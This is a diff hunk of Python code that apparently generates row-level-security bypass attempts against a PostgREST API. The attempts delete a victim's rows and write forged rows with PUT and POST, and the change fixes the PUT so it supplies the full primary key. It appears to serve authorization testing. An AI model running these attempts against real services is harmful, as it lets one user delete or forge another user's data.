@@ -76,7 +76,9 @@ def attempts(victim: Victim, table: str, author: str) -> Iterator[Attempt]:
     yield Attempt("DELETE", path, {"params": theirs})
     yield Attempt("DELETE", path, {"params": theirs, "headers": {"prefer": "return=minimal"}})
     for row in forged_rows(victim, table, author):
-        yield Attempt("PUT", path, {"params": theirs, "json": {**row, **key}})
+        put = {**row, **key}
+        primary = {*key, "user_id"} if table.startswith("user_memory") else {*key}  # PostgREST asks for the whole of it
+        yield Attempt("PUT", path, {"params": {name: f"eq.{put[name]}" for name in sorted(primary)}, "json": put})
         for preference in PREFERENCES:
             yield Attempt("POST", path, {"json": row, "headers": {"prefer": preference}})
             yield Attempt("POST", path, {"json": [{**row, **key}], "headers": {"prefer": preference}})
